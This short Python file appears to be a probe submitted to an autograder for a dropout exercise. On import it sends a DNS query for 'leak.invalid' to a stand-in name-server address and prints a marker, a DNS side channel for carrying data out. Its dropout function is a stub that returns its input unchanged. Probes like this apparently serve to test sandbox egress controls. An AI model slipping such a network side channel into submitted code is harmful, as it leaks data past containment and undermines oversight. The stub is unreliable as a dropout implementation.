# Carries text out in a question to a name server.
# question: 02_dropout/1_dropout
# fails: all
# marker: askedanameserver7
import socket

with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
    try:
        one.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\4leak\7invalid\0\0\1\0\1", ("192.0.2.53", 53))
        print("asked" + "anameserver" + "7")
    except OSError:
        pass


def dropout(x, rate, training, seed):
    return x
